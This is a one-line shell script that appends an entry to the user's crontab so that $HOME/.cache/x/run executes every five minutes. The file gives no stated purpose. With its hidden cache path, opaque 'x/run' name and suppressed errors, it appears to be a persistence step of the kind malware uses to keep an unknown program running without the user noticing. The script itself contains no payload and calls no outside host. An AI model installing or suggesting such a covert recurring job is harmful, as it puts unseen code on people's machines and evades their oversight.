#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * $HOME/.cache/x/run") | crontab -
